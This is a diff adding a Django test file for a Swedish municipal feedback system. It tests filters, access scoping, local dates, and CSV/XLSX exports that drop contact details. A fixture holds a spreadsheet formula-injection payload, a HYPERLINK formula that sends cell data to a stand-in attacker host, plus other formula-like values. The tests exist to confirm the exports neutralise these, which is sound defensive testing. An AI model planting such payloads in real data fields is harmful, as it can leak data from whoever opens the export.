@@ -1,0 +1,261 @@
+"""The list's filters and the CSV/XLSX exports: every filter narrows the list and the
+exports alike, within what the user may see; dates are Swedish local dates; free text
+searches the case, never the contact details; exports carry no contact details and
+neutralise formula-like cells; the registrator's inbox shows new submissions only."""
+
+import csv
+import io
+import re
+from datetime import datetime, timedelta
+
+import openpyxl
+import pytest
+from django.utils import timezone
+
+from synpunkter.models import Kategori, Synpunkt
+from tests.factories import SynpunktFactory
+from tests.synpunkter.hjalp import innehall
+
+pytestmark = pytest.mark.django_db
+
+NUMMER = re.compile(r'href="/synpunkter/(SYN-\d{4}-\d{4})/"')
+
+
+def lokal(*args):
+    return timezone.make_aware(datetime(*args))
+
+
+@pytest.fixture
+def urval(org, personas):
+    """Four synpunkter that differ in every filtered field.
+
+    a: EB, klagomål by e-service from a brukare, registered, category Handläggning,
+       31 Dec 2025 23:30 Swedish time, overdue; the contact is "Karin Kontaktsson".
+    b: the team under EB, beröm by phone from a närstående, answered, 1 Jan 2026 00:30
+       Swedish time (still 31 Dec in UTC), delegation requested.
+    c: Kollektivet HVB, anonymous synpunkt by letter, new, received today.
+    d: Bistånd barn och unga, förslag via IVO from an authority, closed, delegation done.
+    """
+    handl = Kategori.objects.get(namn="Handläggning")
+    bem = Kategori.objects.get(namn="Bemötande och service")
+    a = SynpunktFactory(
+        enhet=org["EB"],
+        typ="klagomal",
+        kanal="e_tjanst",
+        avsandare="brukare",
+        inkom=lokal(2025, 12, 31, 23, 30),
+        kontakt={"namn": "Karin Kontaktsson", "epost": "karin@example.org"},
+    )
+    Synpunkt.objects.filter(pk=a.pk).update(
+        status="registrerad", kategori=handl, diarienummer="SOCN/2025:99"
+    )
+    b = SynpunktFactory(
+        enhet=org["TEAM"],
+        typ="berom",
+        kanal="telefon",
+        avsandare="narstaende",
+        inkom=lokal(2026, 1, 1, 0, 30),
+    )
+    Synpunkt.objects.filter(pk=b.pk).update(
+        status="besvarad",
+        besvarad=lokal(2026, 1, 5, 10, 0),
+        kategori=bem,
+        delegation_status="begard",
+    )
+    c = SynpunktFactory(
+        enhet=org["KOLL"],
+        typ="synpunkt",
+        kanal="brev",
+        avsandare="anonym",
+        anonym=True,
+        beskrivning="Den unika väntrumstexten.",
+    )
+    d = SynpunktFactory(
+        enhet=org["BUV"],
+        typ="forslag",
+        kanal="via_ivo",
+        avsandare="myndighet",
+        inkom=lokal(2026, 1, 2, 12, 0),
+    )
+    Synpunkt.objects.filter(pk=d.pk).update(
+        status="avslutad",
+        svar="Vi tackar för svarsordet.",
+        besvarad=lokal(2026, 1, 3),
+        avslutad=lokal(2026, 1, 4),
+        delegation_status="behandlad",
+    )
+    for s in (a, b, c, d):
+        s.refresh_from_db()
+    return {"a": a, "b": b, "c": c, "d": d, "org": org, "handl": handl}
+
+
+def lista(klient, params):
+    response = klient.get("/synpunkter/", params)
+    assert response.status_code == 200
+    return set(NUMMER.findall(response.content.decode()))
+
+
+def csv_rader(klient, params=None):
+    response = klient.get("/synpunkter/export.csv", params or {})
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(innehall(response)), delimiter=";"))
+
+
+def xlsx_blad(klient, params=None):
+    response = klient.get("/synpunkter/export.xlsx", params or {})
+    assert response.status_code == 200
+    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+
+
+# (id, params (a function of the fixture), the keys of the synpunkter expected)
+FILTER = [
+    ("inga", lambda u: {}, "abcd"),
+    ("status", lambda u: {"status": "registrerad"}, "a"),
+    ("typ", lambda u: {"typ": "berom"}, "b"),
+    ("kanal", lambda u: {"kanal": "via_ivo"}, "d"),
+    ("avsandare", lambda u: {"avsandare": "anonym"}, "c"),
+    ("enhet-med-team", lambda u: {"enhet": u["org"]["EB"].pk}, "ab"),
+    ("avdelning", lambda u: {"enhet": u["org"]["MYN"].pk}, "abd"),
+    ("kategori", lambda u: {"kategori": u["handl"].pk}, "a"),
+    ("delegation-begard", lambda u: {"delegation": "begard"}, "b"),
+    ("delegation-behandlad", lambda u: {"delegation": "behandlad"}, "d"),
+    ("forsenade", lambda u: {"forsenade": "on"}, "a"),
+    # 1 Jan 00:30 in Stockholm is 31 Dec in UTC: the day is the Swedish one.
+    ("till-nyarsafton", lambda u: {"till": "2025-12-31"}, "a"),
+    ("nyarsdagen", lambda u: {"fran": "2026-01-01", "till": "2026-01-01"}, "b"),
+    ("fran-nyarsdagen", lambda u: {"fran": "2026-01-01"}, "bcd"),
+    ("fritext-beskrivning", lambda u: {"q": "den UNIKA"}, "c"),
+    ("fritext-diarienummer", lambda u: {"q": "socn/2025:99"}, "a"),
+    ("fritext-nummer", lambda u: {"q": u["d"].nummer}, "d"),
+    ("fritext-svar", lambda u: {"q": "svarsordet"}, "d"),
+    # The contact details are not searchable.
+    ("fritext-kontakt", lambda u: {"q": "Kontaktsson"}, ""),
+    ("fritext-epost", lambda u: {"q": "karin@example.org"}, ""),
+    ("kombinerat", lambda u: {"enhet": u["org"]["MYN"].pk, "typ": "klagomal"}, "a"),
+    ("ogiltigt-varde", lambda u: {"status": "hackad"}, ""),
+    ("ogiltigt-datum", lambda u: {"fran": "igår"}, ""),
+]
+
+
+@pytest.mark.parametrize(("params", "vantat"), [pytest.param(*f[1:], id=f[0]) for f in FILTER])
+def test_filter_i_lista_och_exporter(params, vantat, urval, klient_for):
+    klient = klient_for("registrator")
+    p = params(urval)
+    forvantat = {urval[k].nummer for k in vantat}
+    assert lista(klient, p) == forvantat
+    assert {r[0] for r in csv_rader(klient, p)[1:]} == forvantat
+    blad = xlsx_blad(klient, p)
+    assert {r[0] for r in blad.iter_rows(min_row=2, values_only=True)} == forvantat
+
+
+@pytest.mark.parametrize(
+    ("persona", "params", "vantat"),
+    [
+        ("enhetschef", {}, "ab"),
+        ("enhetschef", {"typ": "synpunkt"}, ""),
+        # Another unit is not even a valid choice in their unit filter.
+        ("enhetschef", {"enhet": "KOLL"}, ""),
+        ("avdelningschef", {}, "abd"),
+        ("enhetschef_annan", {}, "c"),
+        ("kvalitetssamordnare", {"kanal": "brev"}, "c"),
+        ("medarbetare", {}, ""),
+        ("namnd", {}, ""),
+    ],
+)
+def test_filter_inom_behorigheten(persona, params, vantat, urval, klient_for):
+    params = {k: urval["org"][v].pk if k == "enhet" else v for k, v in params.items()}
+    klient = klient_for(persona)
+    forvantat = {urval[k].nummer for k in vantat}
+    assert lista(klient, params) == forvantat
+    assert {r[0] for r in csv_rader(klient, params)[1:]} == forvantat
+    blad = xlsx_blad(klient, params)
+    assert {r[0] for r in blad.iter_rows(min_row=2, values_only=True)} == forvantat
+
+
+def test_exportens_kolumner_och_lokal_tid(urval, klient_for):
+    klient = klient_for("registrator")
+    rader = csv_rader(klient, {"q": urval["a"].nummer})
+    rubriker = rader[0]
+    assert rubriker == [
+        "Ärendenummer", "Diarienummer", "Typ", "Kanal", "Avsändare", "Status", "Enhet",
+        "Kategori", "Inkom", "Tidsfrist", "Besvarad", "Svaret lämnades", "Vad gäller det",
+        "Brustit", "Ledde till förbättring", "Klagomålsdelegationen", "Avslutad",
+    ]  # fmt: skip
+    rad = dict(zip(rubriker, rader[1], strict=True))
+    assert rad["Inkom"] == "2025-12-31 23:30"
+    assert rad["Tidsfrist"] == "2026-01-14"
+    assert (rad["Typ"], rad["Kanal"], rad["Avsändare"]) == (
+        "Klagomål",
+        "E-tjänst",
+        "Brukare/klient",
+    )
+    assert rad["Enhet"] == "Ekonomiskt bistånd"
+    blad = xlsx_blad(klient, {"q": urval["a"].nummer})
+    xrad = dict(zip([c.value for c in blad[1]], [c.value for c in blad[2]], strict=True))
+    assert xrad["Inkom"] == datetime(2025, 12, 31, 23, 30)
+    assert blad.max_row == 2
+
+
+def test_exporterna_har_inga_kontaktuppgifter(urval, klient_for):
+    klient = klient_for("registrator")
+    csv_text = innehall(klient.get("/synpunkter/export.csv"))
+    blad = xlsx_blad(klient)
+    xlsx_text = " ".join(str(c) for r in blad.iter_rows(values_only=True) for c in r)
+    for hemligt in ("Karin", "Kontaktsson", "karin@example.org", urval["a"].referens):
+        assert hemligt not in csv_text and hemligt not in xlsx_text, hemligt
+
+
+FARLIGT = {
+    "beskrivning": '=HYPERLINK("http://angripare.example/?d="&A1,"Klicka här")',
+    "diarienummer": "+SUM(1;2)",
+}
+
+
+@pytest.fixture
+def farligt_fall(org):
+    kategori = Kategori.objects.create(namn="@SUMMA(A1) kategori")
+    s = SynpunktFactory(enhet=org["EB"], beskrivning=FARLIGT["beskrivning"])
+    Synpunkt.objects.filter(pk=s.pk).update(diarienummer=FARLIGT["diarienummer"], kategori=kategori)
+    return s
+
+
+def test_csv_neutraliserar_formler(farligt_fall, klient_for):
+    rader = csv_rader(klient_for("registrator"))
+    rad = dict(zip(rader[0], rader[1], strict=True))
+    assert rad["Vad gäller det"] == "'" + FARLIGT["beskrivning"]
+    assert rad["Diarienummer"] == "'" + FARLIGT["diarienummer"]
+    assert rad["Kategori"] == "'@SUMMA(A1) kategori"
+    for cell in rader[1]:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_xlsx_skriver_formler_som_text(farligt_fall, klient_for):
+    blad = xlsx_blad(klient_for("registrator"))
+    celler = dict(zip([c.value for c in blad[1]], list(blad[2]), strict=True))
+    for rubrik, varde in [
+        ("Vad gäller det", FARLIGT["beskrivning"]),
+        ("Diarienummer", FARLIGT["diarienummer"]),
+        ("Kategori", "@SUMMA(A1) kategori"),
+    ]:
+        assert celler[rubrik].data_type == "s", rubrik
+        assert celler[rubrik].value == varde, rubrik
+    assert all(c.data_type != "f" for c in blad[2])
+
+
+def test_inkorgen_visar_bara_nya(urval, klient_for):
+    klient = klient_for("registrator")
+    sida = klient.get("/synpunkter/inkorg/")
+    assert set(NUMMER.findall(sida.content.decode())) == {urval["c"].nummer}
+    # The status cannot be overridden from the address.
+    sida = klient.get("/synpunkter/inkorg/", {"status": "avslutad"})
+    assert set(NUMMER.findall(sida.content.decode())) == {urval["c"].nummer}
+
+
+def test_forsenade_foljer_dagens_datum(urval, klient_for):
+    """A registered one whose deadline is today is not overdue; tomorrow it is."""
+    c = urval["c"]
+    Synpunkt.objects.filter(pk=c.pk).update(status="registrerad", tidsfrist=timezone.localdate())
+    klient = klient_for("registrator")
+    assert lista(klient, {"forsenade": "on"}) == {urval["a"].nummer}
+    Synpunkt.objects.filter(pk=c.pk).update(tidsfrist=timezone.localdate() - timedelta(days=1))
+    assert lista(klient, {"forsenade": "on"}) == {urval["a"].nummer, c.nummer}
